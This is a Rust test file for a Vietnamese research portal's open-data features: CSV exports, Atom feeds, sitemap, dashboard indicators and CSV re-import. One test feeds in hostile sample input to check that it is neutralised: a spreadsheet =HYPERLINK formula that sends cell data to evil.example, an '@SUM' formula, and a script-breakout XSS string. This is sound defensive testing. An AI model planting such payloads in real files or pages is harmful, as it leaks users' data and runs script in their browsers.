//! Open data and the dashboard over the demo catalogue: CSV per list with its filters, Atom
//! feeds, sitemap and robots.txt, the dashboard's figures and charts, and the officers' form.

use crate::common;

use std::collections::HashSet;
use std::str::FromStr;

use crate::common::{call, demo_state, get_encoded, person, send};
use app::accounts::model::Role;
use axum::http::{Method, StatusCode};
use serde_json::Value;

async fn get(state: &app::state::AppState, uri: &str) -> (StatusCode, String, String) {
    let (status, headers, body) = send(state, Method::GET, uri, &[("host", "portal.example")], String::new()).await;
    let kind = headers.get("content-type").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    (status, kind, body)
}

/// Every public record of the export, as JSON.
async fn exported(state: &app::state::AppState) -> Vec<Value> {
    let (_, _, body) = get(state, "/api/export.jsonl").await;
    body.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

fn has(record: &Value, field: &str, value: &str) -> bool {
    match &record[field] {
        Value::Array(items) => items.iter().any(|i| i == value),
        other => other == value,
    }
}

fn parse_csv(body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let body = body.strip_prefix('\u{feff}').expect("a byte order mark for spreadsheets");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().iter().map(str::to_string).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    (headers, rows)
}

#[tokio::test]
async fn every_kinds_csv_reads_as_a_dict_with_every_column() {
    let state = demo_state().await;
    let today = app::clock::today();
    let call = serde_json::json!({
        "kind": "call", "id": "call-with-page", "title": "Kêu gọi có trang riêng", "issuer": "so-khcn-khanh-hoa",
        "description": "Kêu gọi đề xuất.", "sectors": ["aquaculture"], "eligible": ["startup"],
        "opens": today.to_string(), "closes": today.checked_add_signed(app::clock::days(30)).unwrap().to_string(),
        "status": "open", "url": "https://dost.khanhhoa.gov.vn/keu-goi"
    });
    let report = app::catalog::import::import_text(&state.db, &call.to_string(), &|_, _| {}).await.unwrap();
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let records = exported(&state).await;
    assert!(records.iter().any(|r| r["url"] == "https://dost.khanhhoa.gov.vn/keu-goi"));
    for kind in app::catalog::model::Kind::ALL {
        let (status, _, body) = get(&state, &format!("{}.csv", kind.path())).await;
        assert_eq!(status, StatusCode::OK);
        let (headers, rows) = parse_csv(&body);
        let distinct: HashSet<&String> = headers.iter().collect();
        assert_eq!(distinct.len(), headers.len(), "{kind:?}: a reader by column name would drop one: {headers:?}");
        assert!(!rows.is_empty(), "{kind:?}");
        // The page's address is the last column; a record's own `url` (a call's page) keeps its name.
        let page = headers.last().unwrap();
        for row in &rows {
            let id = &row[0];
            assert_eq!(row[headers.len() - 1], format!("http://portal.example{}/{id}", kind.path()), "{page}");
            if let Some(at) = headers.iter().position(|h| h == "url").filter(|_| page != "url") {
                let record = records.iter().find(|r| r["kind"] == kind.code() && r["id"] == id.as_str()).unwrap();
                assert_eq!(row[at], record["url"].as_str().unwrap_or_default(), "{kind:?} {id}");
            }
        }
        if *kind == app::catalog::model::Kind::Call {
            let url = headers.iter().position(|h| h == "url").expect("calls.csv has the call's url");
            let row = rows.iter().find(|r| r[0] == "call-with-page").expect("the call with a page is listed");
            assert_eq!(row[url], "https://dost.khanhhoa.gov.vn/keu-goi", "its own page, not the portal's");
        }
    }
}

#[tokio::test]
async fn csv_downloads_carry_exactly_the_filtered_rows() {
    let state = demo_state().await;
    let records = exported(&state).await;
    let labs: Vec<&Value> = records.iter().filter(|r| r["kind"] == "lab").collect();

    let (status, kind, body) = get(&state, "/labs.csv").await;
    assert_eq!((status, kind.as_str()), (StatusCode::OK, "text/csv; charset=utf-8"));
    let (headers, rows) = parse_csv(&body);
    assert_eq!(headers.first().map(String::as_str), Some("id"));
    assert!(headers.contains(&"capabilities".to_string()) && headers.last().map(String::as_str) == Some("url"));
    assert_eq!(rows.len(), labs.len(), "every public lab");

    let sector = labs[0]["sectors"][0].as_str().unwrap();
    let expected: HashSet<&str> =
        labs.iter().filter(|l| has(l, "sectors", sector)).map(|l| l["id"].as_str().unwrap()).collect();
    let (_, _, body) = get(&state, &format!("/labs.csv?sector={sector}")).await;
    let (headers, rows) = parse_csv(&body);
    let sectors = headers.iter().position(|h| h == "sectors").unwrap();
    let ids: HashSet<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids, expected, "the rows the filtered list shows");
    assert!(rows.iter().all(|r| r[sectors].split("; ").any(|s| s == sector)));
    let url = headers.iter().position(|h| h == "url").unwrap();
    assert!(rows[0][url].starts_with("http://portal.example/labs/"), "{}", rows[0][url]);

    // Vietnamese survives, and a filter nothing matches gives a header and no rows.
    let (_, _, orgs) = get(&state, "/organizations.csv").await;
    assert!(orgs.contains("Viện"), "Vietnamese names in UTF-8");
    let (status, _, body) = get(&state, "/offers.csv?trl_min=9&trl_max=1").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(parse_csv(&body).1.len(), 0);
    // Like the list page, values that are not codes are ignored rather than failing.
    let (status, _, body) = get(&state, "/labs.csv?sector=astrology&page=x").await;
    assert_eq!((status, parse_csv(&body).1.len()), (StatusCode::OK, labs.len()));
}

#[tokio::test]
async fn a_feed_keeps_the_lines_a_call_was_written_in_and_escapes_them() {
    let state = demo_state().await;
    let today = app::clock::today();
    let (opens, closes) = (today.to_string(), today.checked_add_signed(app::clock::days(30)).unwrap().to_string());
    let call = serde_json::json!({
        "kind": "call", "id": "call-lines", "title": "Kêu gọi nhiều dòng", "issuer": "so-khcn-khanh-hoa",
        "description": "Hồ sơ gồm:\n- Thuyết minh <b>dự án</b>\n- Dự toán", "sectors": ["aquaculture"],
        "eligible": ["startup"], "opens": opens, "closes": closes, "status": "open"
    });
    let report = app::catalog::import::import_text(&state.db, &call.to_string(), &|_, _| {}).await.unwrap();
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let (_, _, body) = get(&state, "/feeds/calls.atom").await;
    let feed = atom_syndication::Feed::from_str(&body).unwrap();
    let entry = feed.entries().iter().find(|e| e.links()[0].href().ends_with("/call-lines")).expect("listed");
    let summary = entry.summary().unwrap();
    assert_eq!(summary.r#type, atom_syndication::TextType::Html);
    assert!(
        summary.as_str().contains("Hồ sơ gồm:<br>\n- Thuyết minh &lt;b&gt;dự án&lt;/b&gt;<br>\n- Dự toán"),
        "{summary:?}"
    );
}

#[tokio::test]
async fn feeds_parse_as_atom_and_carry_what_they_promise() {
    let state = demo_state().await;
    let records = exported(&state).await;
    let find = |kind: &str, url: &str| -> Value {
        let id = url.rsplit('/').next().unwrap();
        records
            .iter()
            .find(|r| r["kind"] == kind && r["id"] == id)
            .cloned()
            .unwrap_or_else(|| panic!("{url} not public"))
    };

    let (status, kind, body) = get(&state, "/feeds/calls.atom").await;
    assert_eq!((status, kind.as_str()), (StatusCode::OK, "application/atom+xml; charset=utf-8"));
    let calls = atom_syndication::Feed::from_str(&body).expect("valid Atom");
    assert!(!calls.entries().is_empty(), "the demo has open calls");
    assert!(calls.links().iter().any(|l| l.rel() == "self" && l.href() == "http://portal.example/feeds/calls.atom"));
    for entry in calls.entries() {
        let call = find("call", entry.links()[0].href());
        assert_eq!(call["status"], "open", "{}", entry.title().as_str());
        assert!(call["closes"].as_str().unwrap() >= app::clock::today().to_string().as_str());
    }

    let (_, _, body) = get(&state, "/feeds/pilots.atom?lang=en").await;
    let pilots = atom_syndication::Feed::from_str(&body).unwrap();
    assert_eq!(pilots.lang(), Some("en"));
    let own = pilots.links().iter().find(|l| l.rel() == "self").unwrap();
    assert_eq!(own.href(), "http://portal.example/feeds/pilots.atom?lang=en", "not the Vietnamese feed's address");
    let english = [("host", "portal.example"), ("accept-language", "en")];
    let (_, _, body) = send(&state, Method::GET, "/feeds/pilots.atom", &english, String::new()).await;
    let address_says = atom_syndication::Feed::from_str(&body).unwrap();
    assert_eq!(address_says.lang(), Some("vi"), "a feed's address, not the reader's headers, names its language");
    assert!(!pilots.entries().is_empty());
    assert!(pilots.entries().iter().all(|e| find("pilot", e.links()[0].href())["status"] == "accepting"));

    let (_, _, body) = get(&state, "/feeds/offers.atom").await;
    let offers = atom_syndication::Feed::from_str(&body).unwrap();
    let sector = offers.entries()[0].categories()[0].term().to_string();
    let (_, _, body) = get(&state, &format!("/feeds/offers.atom?sector={sector}")).await;
    let in_sector = atom_syndication::Feed::from_str(&body).unwrap();
    assert!(!in_sector.entries().is_empty());
    for entry in in_sector.entries() {
        assert!(entry.categories().iter().any(|c| c.term() == sector));
        assert!(has(&find("offer", entry.links()[0].href()), "sectors", &sector));
    }

    let (status, _, body) = get(&state, "/feeds/offers.atom?sector=astrology").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("unknown sector"), "{body}");
    assert_eq!(get(&state, "/feeds/nothing.atom").await.0, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_sitemap_lists_every_public_page_and_robots_points_to_it() {
    let state = demo_state().await;
    let records = exported(&state).await;
    let (status, kind, index) = get(&state, "/sitemap.xml").await;
    assert_eq!((status, kind.as_str()), (StatusCode::OK, "application/xml; charset=utf-8"));
    let files: Vec<&str> = index.split("<loc>").skip(1).map(|s| s.split("</loc>").next().unwrap()).collect();
    assert!(files.contains(&"http://portal.example/sitemaps/pages.xml"));
    let mut urls = HashSet::new();
    for file in files {
        let (status, _, body) = get(&state, file.trim_start_matches("http://portal.example")).await;
        assert_eq!(status, StatusCode::OK, "{file}");
        assert!(body.starts_with("<?xml") && body.contains("<urlset"));
        urls.extend(body.split("<loc>").skip(1).map(|s| s.split("</loc>").next().unwrap().to_string()));
    }
    assert!(urls.contains("http://portal.example/dashboard") && urls.contains("http://portal.example/open-data"));
    for record in &records {
        let kind = app::catalog::model::Kind::from_code(record["kind"].as_str().unwrap()).unwrap();
        let url = format!("http://portal.example{}/{}", kind.path(), record["id"].as_str().unwrap());
        assert!(urls.contains(&url), "{url} missing from the sitemap");
    }
    assert_eq!(get(&state, "/sitemaps/lab-9.xml").await.0, StatusCode::NOT_FOUND);
    assert_eq!(get(&state, "/sitemaps/nothing.xml").await.0, StatusCode::NOT_FOUND);

    let (status, _, robots) = get(&state, "/robots.txt").await;
    assert_eq!(status, StatusCode::OK);
    assert!(robots.contains("Sitemap: http://portal.example/sitemap.xml"));
    assert!(robots.contains("Disallow: /account") && robots.contains("Disallow: /fn/"));
}

#[tokio::test]
async fn downloads_and_structured_data_are_inert() {
    let state = common::small_state().await;
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";
    let line = serde_json::json!({
        "kind": "lab", "id": "lab-formula", "name": title, "organization": "ria3",
        "description": "</script><script>alert(1)</script>", "capabilities": ["@SUM(A1:A9)"], "sectors": ["aquaculture"]
    });
    let report = app::catalog::import::import_text(&state.db, &line.to_string(), &|_, _| {}).await.unwrap();
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    app::search::index::sync(&state.db, &state.search).await.unwrap();

    let (_, _, body) = get(&state, "/labs.csv").await;
    let (headers, rows) = parse_csv(&body);
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|r| r[column("id")] == "lab-formula").expect("the lab is listed");
    assert_eq!(row[column("name")], format!("'{title}"));
    assert_eq!(row[column("capabilities")], "'@SUM(A1:A9)");

    let (status, _, page) = get(&state, "/labs/lab-formula").await;
    assert_eq!(status, StatusCode::OK);
    let start = page.find("application/ld+json").expect("structured data");
    let script = &page[start..][..page[start..].find("</script>").unwrap()];
    assert!(!script[20..].contains('<') && script.contains("\\u003c/script\\u003e"), "{script}");
}

async fn dashboard(state: &app::state::AppState, cookie: &str) -> Value {
    let mut headers =
        vec![("content-type", "application/json"), ("accept", "application/json"), ("origin", common::ORIGIN)];
    if !cookie.is_empty() {
        headers.push(("cookie", cookie));
    }
    let (status, _, body) = send(state, Method::POST, "/fn/dashboard", &headers, r#"{"lang":"en"}"#.into()).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    serde_json::from_str(&body).unwrap()
}

#[tokio::test]
async fn the_dashboard_counts_live_data_and_officers_record_indicator_values() {
    let state = demo_state().await;
    let records = exported(&state).await;
    let d = dashboard(&state, "").await;
    assert_eq!(d["can_record"], false);
    assert_eq!(d["figures"][0]["value"].as_u64().unwrap() as usize, records.len(), "published listings");
    let charts = d["charts"].as_array().unwrap();
    let ids: Vec<&str> = charts.iter().map(|c| c["id"].as_str().unwrap()).collect();
    for id in ["by-kind", "by-sector", "by-place", "by-month", "pilots", "introductions", "applications"] {
        assert!(ids.contains(&id), "{id} chart");
    }
    for chart in charts {
        assert!(chart["svg"].as_str().unwrap().starts_with("<svg"), "{}", chart["id"]);
        assert!(!chart["rows"].as_array().unwrap().is_empty(), "{} has a table", chart["id"]);
    }
    let by_kind = charts.iter().find(|c| c["id"] == "by-kind").unwrap();
    let labs = records.iter().filter(|r| r["kind"] == "lab").count().to_string();
    assert!(
        by_kind["rows"].as_array().unwrap().iter().any(|r| r[0] == "Labs" && r[1] == labs.as_str()),
        "{}",
        by_kind["rows"]
    );
    let pilots = charts.iter().find(|c| c["id"] == "pilots").unwrap();
    let accepting = records.iter().filter(|r| r["kind"] == "pilot" && r["status"] == "accepting").count().to_string();
    assert!(pilots["rows"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r[0] == "Accepting applications" && r[1] == accepting.as_str()));
    let patents = d["indicators"].as_array().unwrap().iter().find(|i| i["code"] == "patents").unwrap();
    assert!(patents["latest"].is_null());

    let officer = person(&state, "officer", &[Role::Officer], None).await;
    let member = person(&state, "member", &[Role::Member], None).await;
    assert_eq!(dashboard(&state, &officer.cookie).await["can_record"], true);
    let value = |year: &'static str, value: &'static str| {
        [("indicator", "patents"), ("year", year), ("value", value), ("source", "Sở KH&CN Khánh Hòa")]
    };
    let (status, _, _) = call(&state, "record_indicator", &member.cookie, &value("2025", "4")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, body) = call(
        &state,
        "record_indicator",
        &officer.cookie,
        &[("indicator", "patents"), ("year", "1990"), ("value", "lots"), ("source", "")],
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    for field in ["\"year\"", "\"value\"", "\"source\""] {
        assert!(body.contains(field), "{field} explained in {body}");
    }
    assert_eq!(call(&state, "record_indicator", &officer.cookie, &value("2024", "2")).await.0, StatusCode::OK);
    assert_eq!(call(&state, "record_indicator", &officer.cookie, &value("2025", "3")).await.0, StatusCode::OK);
    let d = dashboard(&state, "").await;
    let patents = d["indicators"].as_array().unwrap().iter().find(|i| i["code"] == "patents").unwrap();
    assert_eq!(patents["latest"], "3 (2025)");
    assert_eq!(patents["met"], true);
    assert_eq!(patents["trend"], "+1 since 2024");
    assert!(patents["svg"].as_str().unwrap().contains("<svg"));

    // A correction replaces the year's value; the audit log keeps the old one.
    assert_eq!(call(&state, "record_indicator", &officer.cookie, &value("2025", "2,5")).await.0, StatusCode::OK);
    let d = dashboard(&state, "").await;
    let patents = d["indicators"].as_array().unwrap().iter().find(|i| i["code"] == "patents").unwrap();
    assert_eq!((patents["latest"].as_str(), patents["met"].as_bool()), (Some("2.5 (2025)"), Some(false)));
    let log = app::accounts::repo::audit_log(&state.db, 10).await.unwrap();
    assert!(log.iter().any(|e| e.action == "record_indicator" && e.detail.starts_with("2025: 3 (")), "{log:?}");
}

#[tokio::test]
async fn the_dashboard_and_open_data_pages_render_on_the_server() {
    let state = demo_state().await;
    let (status, _, page) = get(&state, "/dashboard").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("<svg") && page.contains("<table"), "charts with tables");
    let (status, _, page) = get(&state, "/open-data").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("CC BY 4.0") && page.contains("/feeds/calls.atom") && page.contains("/labs.csv"));
    let (_, _, list) = get(&state, "/calls?sector=aquaculture").await;
    assert!(
        list.contains("/calls.csv?sector=aquaculture") && list.contains("/feeds/calls.atom?sector=aquaculture"),
        "downloads keep the filters"
    );
    let english = [("host", "portal.example"), ("accept-language", "en")];
    let (_, _, list) = send(&state, Method::GET, "/calls?sector=aquaculture", &english, String::new()).await;
    assert!(list.contains("/feeds/calls.atom?sector=aquaculture&amp;lang=en"), "an English reader's feed is English");
    let (_, _, page) = send(&state, Method::GET, "/open-data", &english, String::new()).await;
    assert!(page.contains("/feeds/pilots.atom?lang=en"));
}

#[tokio::test]
async fn a_calls_programme_reads_in_english_where_it_is_given() {
    let state = demo_state().await;
    let path = "/calls/call-dat-hang-nuoi-bien-xa-bo-2027";
    let (_, _, english) =
        crate::common::send(&state, axum::http::Method::GET, path, &[("accept-language", "en")], String::new()).await;
    assert!(english.contains("Khánh Hòa mariculture development programme to 2030"), "the English name");
    let (_, _, vietnamese) = get(&state, path).await;
    assert!(vietnamese.contains("Chương trình phát triển nuôi biển tỉnh Khánh Hòa đến năm 2030"));
    let (_, _, csv) = get(&state, "/calls.csv").await;
    assert!(parse_csv(&csv).0.contains(&"programme_en".to_string()), "and a column of its own");
}

#[tokio::test]
async fn labs_are_filtered_by_accredited_services_turnaround_and_price() {
    let state = demo_state().await;
    let labs: Vec<Value> = exported(&state).await.into_iter().filter(|r| r["kind"] == "lab").collect();
    let services = |lab: &Value| lab["service_catalog"].as_array().cloned().unwrap_or_default();
    let accredited =
        |lab: &Value| services(lab).iter().any(|s| s.get("accreditation").is_some() || s.get("vilas").is_some());
    let within =
        |lab: &Value, days: u64| services(lab).iter().any(|s| s["turnaround_days"].as_u64().is_some_and(|d| d <= days));
    let from_at_most = |lab: &Value, vnd: i64| {
        services(lab)
            .iter()
            .flat_map(|s| s["prices"].as_array().cloned().unwrap_or_default())
            .any(|p| p["min_vnd"].as_i64().unwrap() <= vnd)
    };
    let ids = |body: &str| parse_csv(body).1.iter().map(|r| r[0].clone()).collect::<HashSet<String>>();
    let expected = |keep: &dyn Fn(&Value) -> bool| {
        labs.iter().filter(|l| keep(l)).map(|l| l["id"].as_str().unwrap().to_string()).collect::<HashSet<String>>()
    };
    for (query, keep) in [
        ("accredited=yes", &(|l: &Value| accredited(l)) as &dyn Fn(&Value) -> bool),
        ("accredited=yes&turnaround=3", &|l: &Value| accredited(l) && within(l, 3)),
        ("turnaround=5&price_max=200000", &|l: &Value| within(l, 5) && from_at_most(l, 200_000)),
        ("price_max=500000", &|l: &Value| from_at_most(l, 500_000)),
    ] {
        let want = expected(keep);
        assert!(!want.is_empty() && want.len() < labs.len(), "{query} narrows the demo's labs: {want:?}");
        let (_, _, body) = get(&state, &format!("/labs.csv?{query}")).await;
        assert_eq!(ids(&body), want, "{query}");
    }
    // The CSV carries each lab's priced services as the records format writes them.
    let (_, _, body) = get(&state, "/labs.csv").await;
    let (headers, rows) = parse_csv(&body);
    let column = headers.iter().position(|h| h == "service_catalog").expect("a column of services");
    for lab in labs.iter().filter(|l| l.get("service_catalog").is_some()) {
        let row = rows.iter().find(|r| r[0] == lab["id"].as_str().unwrap()).unwrap();
        let cell: Value = serde_json::from_str(&row[column]).expect("one JSON array");
        assert_eq!(cell, lab["service_catalog"], "{}", lab["id"]);
    }
    // The list page offers the filters, with how many labs each finds.
    let (status, _, page) = get(&state, "/labs?accredited=yes").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("Có dịch vụ được công nhận") && page.contains("Trả kết quả trong 3 ngày làm việc"), "{page}");
    assert!(page.contains("Giá từ 200.000 ₫ trở xuống"), "{page}");
    let food = "lab-kiem-nghiem-an-toan-thuc-pham-ntu";
    assert!(expected(&|l: &Value| accredited(l)).contains(food) && page.contains(&format!("/labs/{food}")));
}

/// Every download is whole in each encoding a browser asks for, to the last line: the export
/// (streamed; its compressed stream once ended early), each list's CSV, the feeds, the sitemap
/// and the dashboard's lab figures.
#[tokio::test]
async fn downloads_are_whole_in_every_encoding() {
    let state = demo_state().await;
    let mut paths: Vec<String> = vec!["/api/export.jsonl".into(), "/sitemap.xml".into(), "/feeds/calls.atom".into()];
    paths.extend(app::catalog::model::Kind::ALL.iter().map(|kind| format!("{}.csv", kind.path())));
    paths.extend(["/dashboard/labs.csv".into(), "/dashboard/labs.json".into()]);
    for path in &paths {
        let (status, _, plain) = get_encoded(&state, path, "identity").await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(plain.len() > 200, "{path}: {plain}");
        for (asked, coding) in [("gzip", "gzip"), ("br", "br"), ("gzip, deflate, br, zstd", "br")] {
            let (status, headers, body) = get_encoded(&state, path, asked).await;
            assert_eq!(status, StatusCode::OK, "{path} {asked}");
            assert_eq!(headers["content-encoding"], coding, "{path} {asked}");
            assert_eq!(body.lines().count(), plain.lines().count(), "{path} as {asked}");
            assert_eq!(body, plain, "{path} as {asked}");
        }
    }
}

/// Each list's CSV imports back as it is: every row unchanged, nothing rejected, the same CSV
/// and export after. An edited cell updates its record; a bad row is refused with its line
/// number and changes nothing; a file that is no list's CSV is refused whole.
#[tokio::test]
async fn every_lists_csv_imports_back_unchanged() {
    use app::catalog::import::import_lines;
    use app::opendata::csv_read::rows;
    let state = demo_state().await;
    let (_, _, before) = get(&state, "/api/export.jsonl").await;
    for &kind in app::catalog::model::Kind::ALL {
        let path = format!("{}.csv", kind.path());
        let (_, _, csv) = get(&state, &path).await;
        let report = import_lines(&state.db, rows(&csv).unwrap(), &|_, _| {}).await.unwrap();
        assert!(report.rejected.is_empty(), "{path}: {:?}", report.rejected);
        assert!(report.read > 0 && report.unchanged == report.read, "{path}: {report:?}");
        assert_eq!(get(&state, &path).await.2, csv, "{path}");
    }
    assert_eq!(get(&state, "/api/export.jsonl").await.2, before);

    // A spreadsheet's edit: one location changed, and a row whose year is not a number.
    let (_, _, csv) = get(&state, "/organizations.csv").await;
    let (headers, mut table) = parse_csv(&csv);
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let id = table[0][column("id")].clone();
    table[0][column("location")] = "Cam Ranh, Khánh Hòa".into();
    let mut bad = table[1].clone();
    bad[column("id")] = "to-chuc-moi".into();
    bad[column("founded")] = "năm ngoái".into();
    table.push(bad);
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(&headers).unwrap();
    for row in &table {
        out.write_record(row).unwrap();
    }
    let edited = String::from_utf8(out.into_inner().unwrap()).unwrap().replace('\n', "\r\n");
    let report = import_lines(&state.db, rows(&edited).unwrap(), &|_, _| {}).await.unwrap();
    assert_eq!((report.updated, report.inserted, report.rejected.len()), (1, 0, 1), "{report:?}");
    let rejected = &report.rejected[0];
    assert_eq!(rejected.line, table.len() + 1, "{rejected:?}");
    assert!(rejected.reason.to_string().contains("founded"), "{rejected:?}");
    let (_, _, record) = get(&state, &format!("/api/organization/{id}")).await;
    assert!(record.contains("Cam Ranh, Khánh Hòa"), "{record}");
    let (status, _, _) = get(&state, "/api/organization/to-chuc-moi").await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    let refused = rows("id,name,colour\nx,y,z\n").unwrap_err();
    assert!(refused.contains("colour") && refused.contains("organizations.csv"), "{refused}");
}
